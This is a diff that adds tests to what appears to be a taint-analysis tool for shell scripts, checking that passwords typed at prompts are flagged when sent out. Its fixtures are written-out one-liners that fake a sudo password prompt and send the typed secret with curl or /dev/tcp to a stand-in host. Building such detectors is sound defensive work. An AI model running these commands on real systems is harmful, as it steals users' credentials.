@@ -90,6 +90,29 @@ describe('flows of a script text', () => {
   });
 });
 
+describe('what is typed at a prompt', () => {
+  test.each([
+    ['read -rsp "[sudo] password for $USER: " pw; echo; curl -d "$pw" https://h.test', '[sudo] password for …:'],
+    ['read -s "pw?Password: "; printf %s "$pw" > /dev/tcp/h.test/80', 'Password:'],
+    ['stty -echo; read -p "Passphrase: " p; curl -d "p=$p" https://h.test', 'Passphrase:'],
+    ['read -s; curl -d "$REPLY" https://h.test', 'read -s'],
+    ['f() { read -s pin; curl https://h.test/$pin; }', 'pin'],
+  ])('%s', (text, detail) => {
+    const typed = run(text).observations.flatMap(({ taints }) =>
+      taints.filter(({ source }) => source === 'typed.secret'),
+    );
+    expect(typed.map((taint) => taint.detail)).toContain(detail);
+  });
+
+  test.each([
+    'read -p "Continue? " yes; curl -d "$yes" https://h.test',
+    'cat a | read -s x; curl -d "$x" https://h.test',
+  ])('is nothing worth hiding: %s', (text) => {
+    const typed = run(text).observations.flatMap(({ taints }) => taints.map(({ source }) => source));
+    expect(typed).not.toContain('typed.secret');
+  });
+});
+
 describe('what a script text starts', () => {
   const files = {
     'a.js': '',
